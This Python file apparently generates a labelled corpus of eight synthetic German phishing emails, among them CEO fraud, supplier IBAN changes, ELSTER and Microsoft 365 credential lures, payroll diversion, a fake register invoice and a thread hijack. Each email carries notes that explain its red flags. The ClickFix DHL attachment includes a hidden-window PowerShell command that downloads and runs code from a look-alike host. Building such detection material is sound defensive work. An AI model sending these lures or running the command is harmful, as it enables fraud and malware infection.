"""German attack messages (attack/01-08)."""
import base64
from lib import *
import infra as I

FOLDER = "attack"


def _a01():
    md = """Hallo Frau Weiß,

sind Sie heute noch im Haus? Ich brauche Sie kurzfristig für ein vertrauliches Thema, das bis auf Weiteres nur zwischen uns beiden bleiben muss.

Wie Sie wissen, sprechen wir seit dem Sommer mit einer Großwäscherei im Raum Salzburg über eine Übernahme (intern „Projekt Edelweiß“). Wir sind jetzt in der exklusiven Phase. Die Verkäuferseite verlangt bis Freitag eine Anzahlung auf das Treuhandkonto der begleitenden Kanzlei, sonst geht die Exklusivität an einen Wettbewerber. Der Beirat ist informiert.

Die Abwicklung übernimmt Rechtsanwalt Dr. Florian Hauser (Hauser & Kollegen Rechtsanwälte, Wien). Er meldet sich heute noch per E-Mail bei Ihnen und schickt Ihnen die Treuhandvereinbarung und die Zahlungsdetails. Bitte behandeln Sie alles, was von ihm kommt, mit Priorität.

Da die Gegenseite zu einer börsennotierten Gruppe gehört, gelten Insiderregeln. Bitte sprechen Sie mit niemandem im Haus darüber, auch nicht mit Herrn Köhler, bis die Pressemitteilung raus ist. Anrufen bringt heute leider nichts, ich sitze bis zum Abend in Verhandlungen. Schreiben Sie mir einfach hier.

Können Sie mir kurz bestätigen, welchen Betrag wir heute noch per Eilüberweisung freigeben können (Tageslimit Commerzbank)?

Danke und beste Grüße
Matthias Schröder

--
Gesendet von unterwegs"""
    return M(n=1, lang="de", slug="ceo-fraud-vertrauliche-akquisition",
             infra=I.postfix_server("mail.examplegroup-eu.com", "vmi2215873.contaboserver.net", "161.97.178.52", mua="roundcube", webmail=True),
             date="2026-10-15 16:42:10",
             frm=("Dr. Matthias Schröder", "matthias.schroeder@examplegroup-eu.com"),
             to=[S("katrin.weiss")], subject="Vertraulich: Projekt Edelweiß – kurze Abstimmung",
             body=plain(md, "utf-8", "quoted-printable", flowed=True), hmode="Q",
             what="CEO fraud: 'CEO' announces a confidential acquisition and a lawyer who will send escrow payment details; asks the CFO for today's transfer limit.",
             why="Look-alike domain examplegroup-eu.com (company uses examplegroup.eu / example.com) on a Contabo VPS with Roundcube; secrecy ('not even Herr Köhler'), 'don't call me', urgency, fake-lawyer hand-off and probing of payment limits: classic BEC.")


def _a02():
    md = """Sehr geehrter Herr Köhler,

vielen Dank für Ihre Rückmeldung zu den offenen Posten. Wie bereits telefonisch mit Ihrer Kollegin besprochen, haben wir unseren Zahlungsverkehr zum 1. Oktober auf eine neue Hausbank umgestellt. Unser Konto bei der Sparkasse Bielefeld wird zum Monatsende aufgelöst; Zahlungen dorthin werden ab dem 26.10. automatisch zurückgebucht.

Bitte veranlassen Sie die Zahlung der folgenden Rechnungen bereits auf die neue Verbindung:

- RE-2026-10412 vom 02.10.2026 über 18.436,20 €
- RE-2026-10587 vom 09.10.2026 über 9.112,75 €

Die neue Bankverbindung finden Sie im angehängten Schreiben unserer Geschäftsführung. Da es sich um das Konto unserer europäischen Zahlungsverkehrsgesellschaft handelt, beginnt die IBAN mit LT – das ist so korrekt.

Wegen der laufenden Jahresabschlussprüfung sind wir telefonisch derzeit nur eingeschränkt erreichbar. Rückfragen bitte gern per E-Mail direkt an mich.

Können Sie mir kurz bestätigen, dass die Stammdaten angepasst wurden, und mir das voraussichtliche Zahlungsdatum nennen?

Mit freundlichen Grüßen

Petra Lang
Debitorenbuchhaltung

Lieferant GmbH
Eckendorfer Straße 91 · 33609 Bielefeld
Tel. +49 521 9876-240 · www.lieferant-gmbh.de
Geschäftsführer: Heinrich Brinkmann, Dr. Anke Meier · HRB 41877 Amtsgericht Bielefeld"""
    ib = BANK["lieferant_fake"]
    letter = [(15, True, "Lieferant GmbH"), "Eckendorfer Straße 91, 33609 Bielefeld", "",
              "Example Textilservice GmbH", "Kreditorenbuchhaltung", "Leipziger Straße 214", "34123 Kassel", "",
              "Bielefeld, 19.10.2026", "",
              (12, True, "Änderung unserer Bankverbindung"), "",
              "Sehr geehrte Damen und Herren,", "",
              "im Zuge der Neuorganisation unseres Zahlungsverkehrs bitten wir Sie, Zahlungen ab sofort",
              "ausschließlich auf folgendes Konto zu leisten:", "",
              "Kontoinhaber: Lieferant GmbH - EU Payments", "Bank: Revolut Bank UAB", "IBAN: " + B.fmt_iban(ib),
              "BIC: REVOLT21", "",
              "Die bisherige Verbindung bei der Sparkasse Bielefeld (IBAN " + B.fmt_iban(BANK["lieferant_old"]) + ")",
              "wird zum 31.10.2026 geschlossen.", "",
              "Mit freundlichen Grüßen", "", "Heinrich Brinkmann          Dr. Anke Meier", "Geschäftsführer              Geschäftsführerin"]
    body = Mixed(plain(md, "windows-1252", "quoted-printable"),
                 pdf_att("Lieferant_GmbH_Bankverbindung_2026.pdf", letter, title="Bankverbindung", author="p.lang",
                         producer="Microsoft® Word für Microsoft 365", creator="Microsoft® Word für Microsoft 365"))
    return M(n=2, lang="de", slug="lieferant-bankverbindung-lookalike",
             infra=I.postfix_server("mail.lieferant-gmhb.de", "static.203.41.198.88.clients.your-server.de", "88.198.41.203", mua="outlook16"),
             date="2026-10-20 10:07:31", frm=("Petra Lang", "p.lang@lieferant-gmhb.de"), to=[S("juergen.koehler")],
             subject="AW: Offene Posten Oktober / geänderte Bankverbindung", body=body,
             what="Supplier bank-detail change: 'Lieferant GmbH' asks AP to pay two open invoices to a new Lithuanian (Revolut) IBAN, with a signed-looking letter PDF.",
             why="Sender domain lieferant-gmhb.de is a typo-squat of lieferant-gmbh.de, sent from a Hetzner VPS; fake 'AW:' without a real thread; foreign IBAN explained away; discourages phone verification. Vendor-impersonation BEC.")


def _a03():
    track = "https://u4821733.ct.sendgrid.net/ls/click?upn=u001.Q2xpY2stVHJhY2tpbmctRUxTVEVSLWVsc3Rlci1wb3N0ZmFjaC1zZXJ2aWNlLmRl-2B7c1"
    md = """Sehr geehrte Nutzerin, sehr geehrter Nutzer,

in Ihrem ELSTER-Postfach liegt eine neue Nachricht für Sie bereit.

**Betreff:** Ablauf Ihrer Zertifikatsdatei (Organisationszertifikat)
**Steuernummer:** 026 237 ****
**Ablaufdatum:** 15.11.2026

Nach Ablauf der Zertifikatsdatei können keine Umsatzsteuer-Voranmeldungen und Lohnsteuer-Anmeldungen mehr übermittelt werden. Verspätete Anmeldungen können nach § 152 AO einen Verspätungszuschlag nach sich ziehen.

Bitte verlängern Sie Ihr Zertifikat innerhalb von 7 Tagen. Halten Sie dazu Ihre bisherige Zertifikatsdatei und das Passwort bereit.

BTN: Zum ELSTER-Postfach | %s

Mit freundlichen Grüßen
Ihr ELSTER-Team""" % track
    foot = "Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.\nELSTER – Ihr Online-Finanzamt · Bayerisches Landesamt für Steuern · Dienststelle München"
    return M(n=3, lang="de", slug="elster-zertifikat-ablauf",
             infra=I.sendgrid("em7123.elster-postfach-service.de"), date="2026-11-04 08:12:44",
             frm=("ELSTER - Ihr Online-Finanzamt", "benachrichtigung@elster-postfach-service.de"), to=[S("sabine.hoffmann")],
             subject="Neue Nachricht in Ihrem ELSTER-Postfach: Zertifikatsdatei läuft am 15.11.2026 ab",
             body=alt(md, "utf-8", "quoted-printable", style="brand", brand="ELSTER – Ihr Online-Finanzamt", color="#005ca9", footer=foot, lang="de"),
             what="Credential phishing posing as ELSTER (German tax portal): certificate 'expires', renew within 7 days with certificate file and password.",
             why="Not from elster.de; sent via SendGrid with click-tracking redirect to elster-postfach-service.de; ELSTER notifications never contain login links or ask for the certificate file and PIN; deadline and penalty pressure.")


def _a04():
    email = "uwe.loeffler@example.com"
    url = "https://mfa-erneuerung.de-m365portal.com/auth/?uid=%s&r=2910" % base64.b64encode(email.encode()).decode()
    md = """Sehr geehrter Herr Löffler,

im Rahmen der unternehmensweiten Umstellung auf die neue Microsoft Authenticator-Richtlinie muss die Multi-Faktor-Anmeldung für Ihr Postfach **%s** bis **29.10.2026** neu registriert werden.

Scannen Sie dazu den folgenden QR-Code mit der Kamera Ihres Smartphones und folgen Sie den Anweisungen auf dem Bildschirm. Der Vorgang dauert etwa zwei Minuten.

IMG: mfa-qr@m365 | QR-Code zur Registrierung | 180

Nach Ablauf der Frist wird der Zugriff auf Outlook, Teams und SharePoint vorübergehend gesperrt, bis die Registrierung nachgeholt wurde.

Vielen Dank für Ihre Mitarbeit.

IT-Service Desk
Microsoft 365 Administration""" % email
    html_part = Html(__import__("htmlgen").html(md, "utf-8", "brand", brand="Microsoft 365", color="#0f6cbd", lang="de",
                                                   footer="Microsoft Corporation, One Microsoft Way, Redmond, WA 98052"), "utf-8", "base64")
    from htmlgen import plain as _p
    body = Related(Alt(Text(_p(md), "utf-8", "quoted-printable"), html_part),
                   Att("image001.png", "image/png", qr_png(url), inline=True, cid="mfa-qr@m365"))
    return M(n=4, lang="de", slug="quishing-m365-mfa-registrierung",
             infra=I.cpanel_phpmailer("host17.alpenserver-hosting.at", "host17.alpenserver-hosting.at", "92.60.37.118",
                                      "kanzlei-berger-steuer.at", tz="DE", user="kbergers"),
             date="2026-10-27 07:31:05", frm=("Microsoft 365 Sicherheit", "office@kanzlei-berger-steuer.at"),
             to=[S("uwe.loeffler")], subject="Aktion erforderlich: MFA-Registrierung für %s bis 29.10. erneuern" % email,
             body=body, qr=url,
             what="Quishing: Microsoft 365 'MFA re-registration' with an inline PNG QR code; access to Outlook/Teams threatened.",
             why="Sent from a compromised Austrian tax-office website (PHPMailer via cPanel) with display name 'Microsoft 365 Sicherheit'; the QR code decodes to mfa-erneuerung.de-m365portal.com with the victim's address base64-encoded (AiTM kit); QR hides the URL from link scanners.")


def _a05():
    ib = BANK["payroll_fake"]
    md = """Hallo Frau Brückner,

ich habe mein Girokonto gewechselt und würde gern, dass mein Gehalt ab der Novemberabrechnung auf das neue Konto geht:

Kontoinhaber: Marcel Brandt
IBAN: %s
Bank: N26

Klappt das noch für November? Ich schreibe von meiner privaten Adresse, weil ich diese Woche Spätschicht in der Tourenplanung habe und tagsüber nicht an den PC komme.

Ein extra Formular brauche ich dafür nicht, oder? Sonst schicken Sie es mir gern hierher.

Danke und viele Grüße
Marcel Brandt""" % B.fmt_iban(ib)
    return M(n=5, lang="de", slug="gehaltskonto-aenderung-payroll-diversion",
             infra=I.gmail(node="ed1"), date="2026-11-16 07:58:12",
             frm=("Marcel Brandt", "marcelbrandt.ks@gmail.com"), to=[S("anja.brueckner")],
             subject="Änderung Bankverbindung Gehalt", body=alt(md, "utf-8", "quoted-printable", style="gmail"),
             what="Payroll diversion: 'employee' asks HR to pay his salary to a new N26 account from November.",
             why="New free-mail address never used by the employee (his known private address is marcel.brandt84@gmx.de), timed before payroll cut-off, neobank IBAN, tries to avoid the signed change form.")


def _a06():
    ib = BANK["register_scam"]
    md = """Sehr geehrte Damen und Herren,

für die Eintragung Ihres Unternehmens **Example Textilservice GmbH** in das Deutsche Gewerbe-Register (Registernummer DGR-2026-448173) erhalten Sie anbei die Eintragungsofferte mit den zu prüfenden Firmendaten.

Bitte prüfen Sie die Angaben und überweisen Sie den Betrag von **1.189,50 €** unter Angabe der Registernummer bis zum **27.11.2026**. Nach Zahlungseingang werden Ihre Daten für 36 Monate veröffentlicht und für die Branchensuche freigeschaltet.

Zahlungsempfänger: DGR Deutsches Gewerbe-Register
IBAN: %s
BIC: BCOMPTPL
Verwendungszweck: DGR-2026-448173

Mit freundlichen Grüßen
Ihr Team vom Deutschen Gewerbe-Register
Registerverwaltung""" % B.fmt_iban(ib)
    pdf_lines = [(15, True, "DGR Deutsches Gewerbe-Register"), "Registerverwaltung | Av. da Liberdade 110, 1269-046 Lisboa", "",
                 (12, True, "EINTRAGUNGSOFFERTE / ZAHLUNGSAUFFORDERUNG"), "",
                 "Registernummer: DGR-2026-448173          Datum: 13.11.2026", "",
                 "Firma: Example Textilservice GmbH", "Anschrift: Leipziger Straße 214, 34123 Kassel", "Branche: Wäscherei / Textilservice (WZ 96.01)",
                 "", "Leistung: Eintragung und Veröffentlichung der Firmendaten im Online-Register",
                 "Laufzeit: 36 Monate, Betrag pro Jahr 999,58 EUR netto", "Gesamtbetrag 1. Jahr inkl. 19 % MwSt.: 1.189,50 EUR", "",
                 "Zahlbar bis 27.11.2026 auf IBAN " + B.fmt_iban(ib) + ", BIC BCOMPTPL", "", "",
                 (7, False, "Hinweis: Dies ist ein Angebot. Durch Zahlung des Betrages nehmen Sie das Angebot an. Der Vertrag verlängert sich"),
                 (7, False, "automatisch um weitere 12 Monate, wenn er nicht 3 Monate vor Ablauf schriftlich gekündigt wird. Es besteht keine"),
                 (7, False, "Verbindung zum Handelsregister der Amtsgerichte oder zu einer Behörde. Gerichtsstand Lissabon.")]
    body = Mixed(alt(md, "utf-8", "quoted-printable", style="simple"),
                 pdf_att("DGR_448173_Eintragungsofferte.pdf", pdf_lines, title="Eintragungsofferte DGR-2026-448173", producer="iText 7.2.5"))
    return M(n=6, lang="de", slug="gewerberegister-eintragungsofferte",
             infra=I.brevo(), date="2026-11-13 09:46:20",
             frm=("Deutsches Gewerbe-Register", "registerverwaltung@dgr-gewerberegister.de"), to=[S("sabine.hoffmann")],
             subject="Eintragung DGR-2026-448173 – Example Textilservice GmbH – Zahlungsaufforderung",
             body=body,
             what="Fake directory/register invoice: 'Deutsches Gewerbe-Register' payment request of 1,189.50 EUR with an official-looking PDF.",
             why="No business relationship; imitates an official register fee; fine print says payment accepts a 3-year auto-renewing 'offer'; Portuguese IBAN; bulk ESP (Brevo). Known directory-fraud pattern.")


CLICKFIX_HTML = """<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8">
<title>DHL Express - Zollanmeldung 4839201175</title>
<style>
body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f2f2f2}
.top{background:#ffcc00;padding:14px 28px;font-weight:bold;color:#d40511;font-size:22px}
.box{max-width:560px;margin:40px auto;background:#fff;border:1px solid #d9d9d9;border-radius:4px;padding:28px}
.cap{border:1px solid #d3d3d3;background:#f9f9f9;padding:14px;display:flex;align-items:center;gap:12px}
.chk{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;background:#fff}
ol{line-height:1.9}
kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px;font-size:13px}
textarea{width:100%;height:52px;font-size:12px;color:#555}
</style>
</head>
<body>
<div class="top">DHL EXPRESS</div>
<div class="box">
<h2>Zolldokumente werden geladen&hellip;</h2>
<p>Sendung <b>4839201175</b> &ndash; Einfuhrabgaben: <b>EUR 184,37</b></p>
<div class="cap"><div class="chk"></div><div>Ich bin kein Roboter<br><small>reCAPTCHA &middot; Datenschutz &middot; Nutzungsbedingungen</small></div></div>
<p style="color:#d40511"><b>Verifizierung fehlgeschlagen.</b> Bitte best&auml;tigen Sie die Verifizierung manuell:</p>
<ol>
<li>Dr&uuml;cken Sie <kbd>Windows</kbd> + <kbd>R</kbd></li>
<li>Dr&uuml;cken Sie <kbd>Strg</kbd> + <kbd>V</kbd></li>
<li>Dr&uuml;cken Sie <kbd>Enter</kbd></li>
</ol>
<p>Verifizierungscode (wurde in die Zwischenablage kopiert):</p>
<textarea readonly>powershell -w h -nop -c "iwr https://cdn-dhl-zolldocs.com/v/4839201175 | iex" # I am not a robot - reCAPTCHA Verification ID: 7731</textarea>
<p><small>&copy; 2026 DHL International GmbH. Alle Rechte vorbehalten.</small></p>
</div>
</body>
</html>
"""


def _a07():
    md = """Guten Tag,

für Ihre Sendung **4839201175** (Absender: Tecnolav S.r.l., Brescia – Ersatzteile) sind Einfuhrabgaben angefallen. Die Sendung befindet sich derzeit im DHL Zolllager Leipzig.

Die Zollanmeldung und die Rechnung über die Abgaben (184,37 EUR) finden Sie im Anhang. Bitte öffnen Sie das Dokument im Browser und bestätigen Sie die Angaben, damit die Sendung zugestellt werden kann.

Ohne Bestätigung innerhalb von 3 Werktagen wird die Sendung an den Absender zurückgeschickt.

Mit freundlichen Grüßen
DHL Express Germany GmbH
Zollabwicklung / Customs Clearance"""
    body = Mixed(alt(md, "utf-8", "quoted-printable", style="simple"),
                 html_att("DHL_Zollanmeldung_4839201175.html", CLICKFIX_HTML))
    return M(n=7, lang="de", slug="clickfix-dhl-zollanmeldung-html",
             infra=I.cpanel_phpmailer("vps-41288.webhosting-zentrum.net", "vps-41288.webhosting-zentrum.net", "194.164.58.201",
                                      "malerbetrieb-schaefer-goettingen.de", user="malersch"),
             date="2026-11-10 11:24:50", frm=("DHL Express Zoll", "noreply@malerbetrieb-schaefer-goettingen.de"),
             reply_to=("DHL Express Zoll", "zoll@dhl-express-verzollung.com"),
             to=[S("dennis.yilmaz")], subject="DHL Express: Einfuhrabgaben für Sendung 4839201175 – Bestätigung erforderlich",
             body=body,
             what="ClickFix: fake DHL customs notice with an HTML attachment showing a fake reCAPTCHA that tells the user to press Win+R, Ctrl+V, Enter (PowerShell download-and-execute).",
             why="Sent from a compromised painter's website via PHPMailer, Reply-To on a look-alike DHL domain; the HTML page instructs pasting a PowerShell 'iwr ... | iex' command (ClickFix). The attachment is inert: no script, the command is only displayed text.")


def _a08():
    quoted = """Von: Dennis Yilmaz <dennis.yilmaz@example.com>
Gesendet: Dienstag, 3. November 2026 14:12
An: Ralf Otto <r.otto@kleenchem.de>
Betreff: AW: Angebot Dosieranlage TW2 - Ersatzteile

Hallo Herr Otto,

danke für das Angebot. Können Sie uns bitte noch die Preise für die Ersatz-Schlauchpumpen
(6 Stück) und die Wartungspauschale 2027 separat ausweisen? Dann gebe ich es intern frei.

Viele Grüße
Dennis Yilmaz
Einkauf
Example Textilservice GmbH

Von: Ralf Otto <r.otto@kleenchem.de>
Gesendet: Freitag, 30. Oktober 2026 10:37
An: Dennis Yilmaz <dennis.yilmaz@example.com>
Betreff: Angebot Dosieranlage TW2 - Ersatzteile

Guten Tag Herr Yilmaz,

anbei wie besprochen unser Angebot KC-26-1183 für die Dosieranlage an der Taktwaschanlage TW2."""
    text = """Guten Tag,

anbei die überarbeiteten Unterlagen, wie besprochen.

Das Archiv ist aus Datenschutzgründen verschlüsselt.
Kennwort: KC2611

Mit freundlichen Grüßen
Ralf Otto

""" + quoted + "\n"
    z = zipc_att("Angebot_KC-26-1183_rev2.zip",
                 [("Angebot_KC-26-1183_rev2.pdf.js", b"// inert placeholder for evaluation - no code\n")], "KC2611", "a08")
    body = Mixed(Text(text, "iso-8859-1", "8bit"), z)
    return M(n=8, lang="de", slug="thread-hijack-passwort-zip",
             infra=I.ionos(mua="none"), date="2026-11-05 13:51:09",
             frm=("Ralf Otto", "buero@haustechnik-reinhardt.de"), to=[S("dennis.yilmaz")],
             subject="AW: AW: Angebot Dosieranlage TW2 - Ersatzteile",
             in_reply_to="5c0e7d21a4b94f3e8f6a2d17b3c9e081@EXMBX01.corp.example.com",
             references=["000001dd5e21$1c2d0e80$54873b80$@kleenchem.de", "5c0e7d21a4b94f3e8f6a2d17b3c9e081@EXMBX01.corp.example.com"],
             body=body,
             what="Thread hijack (Emotet/QakBot style): reply to a stolen procurement thread with a password-protected ZIP containing a .pdf.js file.",
             why="Display name is the known supplier contact but the address is an unrelated compromised plumber's mailbox (haustechnik-reinhardt.de on IONOS); generic two-line text on top of a stolen thread; ZipCrypto archive with password in the body to defeat scanning; double extension .pdf.js.")


MESSAGES = [_a01(), _a02(), _a03(), _a04(), _a05(), _a06(), _a07(), _a08()]
for _m in MESSAGES:
    _m["folder"] = FOLDER
